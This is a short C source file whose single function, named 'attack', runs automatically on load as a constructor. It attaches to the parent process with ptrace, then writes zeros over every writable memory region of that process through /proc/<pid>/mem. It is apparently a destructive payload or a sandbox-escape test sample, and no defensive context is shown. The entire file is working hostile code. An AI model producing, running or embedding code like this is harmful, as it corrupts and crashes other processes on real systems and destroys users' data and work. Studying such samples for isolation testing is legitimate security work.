#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    char path[64];
    static const char zeros[4096];
    ptrace(PTRACE_ATTACH, getppid(), NULL, NULL);
    snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
    int memory = open(path, O_RDWR);
    snprintf(path, sizeof path, "/proc/%d/maps", (int)getppid());
    FILE *maps = fopen(path, "r");
    char line[512];
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
        unsigned long start;
        unsigned long end;
        if (strstr(line, " rw-") == NULL || sscanf(line, "%lx-%lx", &start, &end) != 2)
            continue;
        for (; memory >= 0 && start < end; start += sizeof zeros)
            (void)!pwrite(memory, zeros, sizeof zeros, (off_t)start);
    }
    _exit(0);
}
